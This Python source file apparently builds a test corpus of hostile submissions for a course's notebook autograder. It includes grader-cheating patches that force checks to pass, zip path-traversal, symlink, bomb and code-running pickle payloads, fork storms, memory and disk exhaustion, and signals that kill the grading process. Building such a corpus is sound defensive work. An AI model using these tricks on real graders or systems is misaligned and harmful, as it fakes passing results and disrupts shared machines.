def _zip_symlink(arena: Arena) -> bytes:
    def extra(zf: zipfile.ZipFile) -> None:
        for name, target in (("data", "/etc/passwd"), ("tests", "/"), (f"{TAG}-link", str(arena.markers))):
            info = zipfile.ZipInfo(name)
            info.external_attr = 0o120777 << 16
            zf.writestr(info, target)

    return _zip_with(arena, extra)


BOMB_CLAIM = 0xF000_0000  # 3.75 GiB declared
BOMB_REAL = 10 * 2**20  # 10 MiB of zeros really inside (about 10 KiB compressed)


def _zip_bomb(arena: Arena) -> bytes:
    """A member of 10 MiB zeros, and one whose headers claim 3.75 GiB (its data is 10 MiB too)."""

    def extra(zf: zipfile.ZipFile) -> None:
        zf.writestr("zeros.bin", bytes(BOMB_REAL))
        zf.writestr("bomb.bin", bytes(BOMB_REAL))

    data = bytearray(_zip_with(arena, extra))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        local = zf.getinfo("bomb.bin").header_offset
    struct.pack_into("<I", data, local + 22, BOMB_CLAIM)  # local header: uncompressed size
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:  # its central directory entry
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        if bytes(data[pos + 46 : pos + 46 + name_len]) == b"bomb.bin":
            struct.pack_into("<I", data, pos + 24, BOMB_CLAIM)
            break
        pos = data.find(b"PK\x01\x02", pos + 4)
    return bytes(data)


class _RunsCode:
    """Unpickling this runs code: it creates a marker file (inside the arena)."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (exec, (f"open({self.marker!r}, 'w').write('the .OTTER_LOG pickle ran')",))


def _zip_otter_log(arena: Arena) -> bytes:
    payload = pickle.dumps(_RunsCode(arena.markers / f"{TAG}-otter-log-ran"))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("lab1.ipynb", nbformat.writes(partial()))
        zf.writestr(".OTTER_LOG", payload)
    return buf.getvalue()


SHADOW_CHECKS = """\"\"\"Shadows the instructor's checks: every check passes.\"\"\"


def __getattr__(name):
    return lambda *args, **kwargs: None
"""
SHADOW_TEST = """from otter.test_files import test_case

OK_FORMAT = False
name = "q1_mnist_name"
points = None


@test_case(points=1, hidden=True)
def test_q1(mnist_stands_for):
    pass
"""


def _zip_shadow(arena: Arena) -> bytes:
    """Files named like the instructor's: the course package with passing checks, data, tests."""
    import numpy as np

    npz = io.BytesIO()
    np.savez(
        npz,
        x_train=np.zeros((3, 28, 28), "uint8"),
        y_train=np.zeros(3, "uint8"),
        x_test=np.zeros((1, 28, 28), "uint8"),
        y_test=np.zeros(1, "uint8"),
    )
    members = {
        "ds201_lab1/__init__.py": b"",
        "ds201_lab1/checks.py": SHADOW_CHECKS.encode(),
        "ds201_lab1/data.py": (ROOT / "src" / "ds201_lab1" / "data.py").read_bytes(),
        "mnist.npz": npz.getvalue(),
        "tests/q1_mnist_name.py": SHADOW_TEST.encode(),
        "otter_config.json": b'{"assignment_name": "lab1", "grade_from_log": true}',
    }
    return _export(partial(), members)


# ---------------------------------------------------------------------------------------------
# 9. Exits, loops, floods, memory, processes
# ---------------------------------------------------------------------------------------------
STUBBORN = """
# An endless loop that ignores SIGINT and swallows KeyboardInterrupt (gently: it sleeps).
import signal
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        time.sleep(0.1)
    except KeyboardInterrupt:
        pass
"""
FLOOD = """
# Endless printing.
import sys

_line = "x" * 10_000 + "\\n"
while True:
    sys.stdout.write(_line)
"""
HUGE = """
# Far more memory than the machine has, at once.
import numpy as np

huge = np.ones((60_000, 60_000))  # 28.8 GB
"""
HUGE_BYTES = "blob = bytearray(64 * 2**30)"
HOG = """
# A slow memory hog: 128 MiB more every 0.1 s, forever.
import time

import numpy as np

chunks = []
while True:
    chunks.append(np.ones(2**24))
    time.sleep(0.1)
"""
STORM = r"""
import os, time

end, n = time.monotonic() + 15, 0
while time.monotonic() < end:
    if n < 2000:
        try:
            os.posix_spawn("/bin/sleep", ["sleep", "60"], os.environ)
            n += 1
            continue
        except OSError:  # no process left: try again as soon as one is freed
            pass
    time.sleep(0.005)
"""
FORK_STORM = f"""
# A bounded fork storm, held 15 s and then ended: a small process starts `sleep 60` until fork
# fails, and keeps trying (2000 at most); the notebook waits meanwhile, then ends the storm.
import os
import signal
import subprocess
import sys
import time

_storm = subprocess.Popen([sys.executable, "-c", {STORM!r}], start_new_session=True)
time.sleep(16)
os.killpg(_storm.pid, signal.SIGKILL)
_storm.wait()
"""


# ---------------------------------------------------------------------------------------------
# 10. Network
# ---------------------------------------------------------------------------------------------
def _network(arena: Arena) -> str:
    return f"""
# Fetch the answers from a server (on the grading machine's loopback) and use them.
import json
import urllib.request

try:
    with urllib.request.urlopen({arena.server!r}, timeout=3) as _r:
        _answers = json.loads(_r.read())
    globals().update(_answers)
    print("got", sorted(_answers))
except OSError as _e:
    print("no network:", type(_e).__name__, _e)
""" + _check_all(LITERAL_QUESTIONS)


# ---------------------------------------------------------------------------------------------
# Extra holes
# ---------------------------------------------------------------------------------------------
DISK_FILL = """
# Fill the disk: 2 GiB in the working folder, 512 MiB in the temporary folder, 256 MiB in /dev/shm.
import tempfile

_chunk = bytes(64 * 2**20)
for _folder, _limit in ((_os.getcwd(), 2 * 2**30), (tempfile.gettempdir(), 2**29), ("/dev/shm", 2**28)):
    _path = _os.path.join(_folder, "{tag}-fill")
    if not _may_write(_path):
        continue
    _written = 0
    try:
        with open(_path, "wb") as _f:
            while _written < _limit:
                _f.write(_chunk)
                _written += len(_chunk)
    except OSError as _e:
        print(_folder, type(_e).__name__)
    print(_folder, _written // 2**20, "MiB")
""".replace("{tag}", TAG)
WORKER = """
# Attack the process that runs the notebook: stop and kill the kernel's parent, then take away
# the grader's notes (_ds201/meta.json becomes a folder; _ds201 becomes read-only).
import signal

for _sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    try:
        _os.kill(_os.getppid(), _sig)
    except OSError as _e:
        print("signal", _sig, type(_e).__name__)
_meta = _os.path.join("_ds201", "meta.json")
if _os.path.isdir("_ds201") and _may_write(_meta):
    try:
        if _os.path.exists(_meta):
            _os.remove(_meta)
        _os.mkdir(_meta)
        _os.chmod("_ds201", 0o555)
        print("meta.json is now a folder")
    except OSError as _e:
        print("meta:", type(_e).__name__)
"""


def _other_kernel(arena: Arena) -> NotebookNode:
    nb = blank()
    nb.metadata["kernelspec"] = {"name": f"{TAG}-kernel", "display_name": "Not Python", "language": "bash"}
    nb.metadata["language_info"] = {"name": "bash"}
    return nb


# ---------------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------------
CASES: tuple[Case, ...] = (
    Case(
        "fake_output",
        1,
        'replaces `grader` by one that prints and display()s "All test cases passed!", patches IPython\'s showtraceback; then raises',
        lambda a: at_end(after_setup(blank(), FAKE_OUTPUT), RAISE_HIDDEN),
        "blank",
    ),
    Case(
        "otter_test_files",
        2,
        "the 2-line patch of `otter.test_files`: every `ExceptionTestFile.run` records all cases passed",
        lambda a: after_setup(blank(), OTTER_TEST_FILES),
        "blank",
    ),
    Case(
        "otter_checker",
        2,
        "patches otter's `Checker.check`, `Notebook.check` and `TestFile.score`/`passed_all` to always pass",
        lambda a: after_setup(blank(), OTTER_CHECKER),
        "blank",
    ),
    Case(
        "fake_checks_module",
        2,
        "puts a fake `ds201_lab1.checks` in `sys.modules` whose every function returns None",
        lambda a: after_setup(blank(), FAKE_CHECKS),
        "blank",
    ),
    Case(
        "numpy_lies",
        2,
        "`np.allclose`/`array_equal`/`isclose`/`mean` and `math.isclose` lie; then well-typed wrong answers",
        lambda a: at_end(after_setup(blank(), NUMPY_LIES), NUMPY_WRONG_ANSWERS),
        "blank",
    ),
    Case(
        "library_lies",
        2,
        "`accuracy_score` is always 1.0; `Model.__call__`/`predict`/`evaluate` return the true labels; one honest step",
        lambda a: at_end(blank(), LIBRARY_LIES),
        "blank",
    ),
    Case(
        "overwrite_test_data",
        3,
        "`y_test = y_pred`, `X_test`/`x_test` zeroed, the course data loader patched to serve a crafted dataset",
        lambda a: at_end(blank(), OVERWRITE_DATA),
        "blank",
    ),
    Case(
        "data_cache_overwrite",
        3,
        "overwrites mnist.npz/cifar10.npz in `DS201_DATA_DIR` and ~/.cache/ds201-lab1 before the data is loaded",
        lambda a: after_setup(partial(), guard(a) + DATA_CACHE),
        "partial",
    ),
    Case(
        "artifacts_forged",
        3,
        "writes the right values by hand into the grader's artifacts (`_ds201/artifacts/*/manifest.json`) after "
        "the checks saved the blanks (issue 15: an answer is final when checked, so they do not count)",
        lambda a: at_end(blank(), _forged_manifests(a)),
        "blank",
    ),
    Case(
        "artifacts_garbage",
        3,
        "replaces every saved question's artifacts: `../` paths, symlinks, deep nesting, a FIFO, pickles, a Lambda model",
        lambda a: at_end(blank(), guard(a) + ARTIFACTS_GARBAGE),
        "blank",
    ),
    Case(
        "lying_objects",
        4,
        "answers with always-equal objects, lying `__float__`/`__int__`/`__array__`/`__len__`, subclasses, a generator, deep nesting",
        lambda a: at_end(blank(), LYING_OBJECTS),
        "blank",
    ),
    Case(
        "hunt_hidden",
        5,
        "searches disk, environment and gc for tests/checks/autograder/solution; copies a solution's answers, rewrites tests; shell too",
        lambda a: at_end(blank(), guard(a) + HUNT, _check_all(fx.CHEAP), SHELL, SHELL_BANG),
        "blank",
        alone=True,
    ),
    Case(
        "background_process",
        6,
        "three daemons (setsid, nohup, double fork) that outlive the kernel and keep rewriting every results file they find",
        lambda a: at_end(partial(), _background(a)),
        "partial",
        alone=True,
    ),
    Case(
        "foreign_models",
        7,
        "models with a Lambda layer, a registered custom layer and a fake `Dense` that look up the true labels",
        lambda a: at_end(blank(), FOREIGN_MODELS),
        "blank",
    ),
    Case("zip_dotdot", 8, "export zip with a `../../../../` member", _zip_dotdot, "partial_zip"),
    Case("zip_absolute", 8, "export zip with an absolute-path member (`/tmp/…`)", _zip_absolute, "partial_zip"),
    Case(
        "zip_symlink",
        8,
        "export zip with symlink members (`data` → /etc/passwd, `tests` → /)",
        _zip_symlink,
        "partial_zip",
    ),
    Case(
        "zip_bomb",
        8,
        "export zip with 10 MiB of zeros (10 KiB compressed) and a member whose headers claim 3.75 GiB",
        _zip_bomb,
        "partial_zip",
    ),
    Case(
        "zip_otter_log",
        8,
        "export zip whose `.OTTER_LOG` is a pickle that runs code when loaded (it writes a marker file)",
        _zip_otter_log,
        "partial_zip",
    ),
    Case(
        "zip_shadow",
        8,
        "export zip with `ds201_lab1/checks.py` (all pass), `ds201_lab1/data.py`, `mnist.npz`, `tests/…`, `otter_config.json`",
        _zip_shadow,
        "partial_zip",
    ),
    Case(
        "exits",
        9,
        "`sys.exit(0)`, `raise SystemExit`, then `os._exit(0)` at the end",
        lambda a: at_end(partial(), "import sys\n\nsys.exit(0)", "raise SystemExit(3)", "import os\n\nos._exit(0)"),
        "partial",
    ),
    Case(
        "endless_loop",
        9,
        "`while True: pass` at the end",
        lambda a: at_end(partial(), "while True:\n    pass"),
        "partial",
    ),
    Case(
        "stubborn_loop",
        9,
        "an endless loop that ignores SIGINT and swallows KeyboardInterrupt",
        lambda a: at_end(partial(), STUBBORN),
        "partial",
        first=True,
    ),
    Case("endless_print", 9, "prints 10 kB lines forever", lambda a: at_end(partial(), FLOOD), "partial"),
    Case(
        "memory_hogs",
        9,
        "allocates 28.8 GB and 64 GiB at once, then grows by 128 MiB every 0.1 s",
        lambda a: at_end(partial(), HUGE, HUGE_BYTES, HOG),
        "partial",
    ),
    Case(
        "fork_storm",
        9,
        "at the end, starts `sleep 60` until fork fails and keeps trying for 15 s (2000 at most), then ends them",
        lambda a: at_end(partial(), FORK_STORM),
        "partial",
        neighbour=True,
    ),
    Case(
        "network",
        10,
        "fetches the answers from a server on the grading machine's loopback and uses them",
        lambda a: at_end(blank(), _network(a)),
        "blank",
    ),
    Case(
        "disk_fill",
        "extra",
        "writes 2 GiB into the working folder, 512 MiB into the temporary folder, 256 MiB into /dev/shm",
        lambda a: at_end(partial(), guard(a) + DISK_FILL),
        "partial",
    ),
    Case(
        "attack_worker",
        "extra",
        "SIGSTOP/SIGTERM/SIGKILL to the kernel's parent; `_ds201/meta.json` made a folder, `_ds201` read-only",
        lambda a: at_end(partial(), guard(a) + WORKER),
        "partial",
    ),
    Case(
        "other_kernel",
        "extra",
        "notebook metadata names another kernel (`language: bash`)",
        _other_kernel,
        "blank",
    ),
    Case(
        "fake_training",
        "extra",
        "sets `model.optimizer.iterations` to 10 epochs' worth without training, then answers sections 4–6 with it",
        lambda a: at_end(blank(), FAKE_TRAINING_TWIN.replace("train_time = 1.0", FAKE_TRAINING + "train_time = 1.0")),
        "fake_training",
    ),
)


# ---------------------------------------------------------------------------------------------
# Writing the corpus
# ---------------------------------------------------------------------------------------------
def _write(built: NotebookNode | bytes, path: Path) -> Path:
    if isinstance(built, bytes):
        path.write_bytes(built)
    else:
        nbformat.write(built, path)
    return path


def write_corpus(folder: Path, arena: Arena, cases: tuple[Case, ...] = CASES) -> dict[str, Path]:
    """Every case and every twin they use as files in ``folder``: id -> path (twins as ``twin:<id>``)."""
    folder.mkdir(parents=True, exist_ok=True)
    arena.markers.mkdir(parents=True, exist_ok=True)
    out: dict[str, Path] = {}
    for case in cases:
        built = case.build(arena)
        kind = ".zip" if isinstance(built, bytes) else ".ipynb"
        out[case.id] = _write(built, folder / f"{'0' if case.first else '1'}_{case.id}{kind}")
    for twin_id in sorted({c.twin for c in cases}):
        built = TWINS[twin_id].build(arena)
        kind = ".zip" if isinstance(built, bytes) else ".ipynb"
        out[f"twin:{twin_id}"] = _write(built, folder / f"2_twin_{twin_id}{kind}")
    return out


def write_neighbour_run(folder: Path, arena: Arena, case: Case) -> dict[str, Path]:
    """A ``neighbour`` case's own run: the case and a filler start together, its twin when the filler ends.

    The twin thus starts while the attack (a fork storm) is under way, as any submission of a class
    might: with ``-j 2`` the grader starts them in this (sorted) order.
    """
    folder.mkdir(parents=True, exist_ok=True)
    arena.markers.mkdir(parents=True, exist_ok=True)
    twin = TWINS[case.twin].build(arena)
    assert not isinstance(twin, bytes), "a neighbour case's twin is a notebook"
    return {
        case.id: _write(case.build(arena), folder / f"0_{case.id}.ipynb"),
        "filler": _write(TWINS["blank"].build(arena), folder / "1_filler_blank.ipynb"),
        f"twin:{case.twin}": _write(twin, folder / f"2_{case.id}_twin_{case.twin}.ipynb"),
    }


def served_answers() -> bytes:
    """What the loopback server of category 10 answers: the literal answers, as JSON."""
    return json.dumps(answers()).encode()
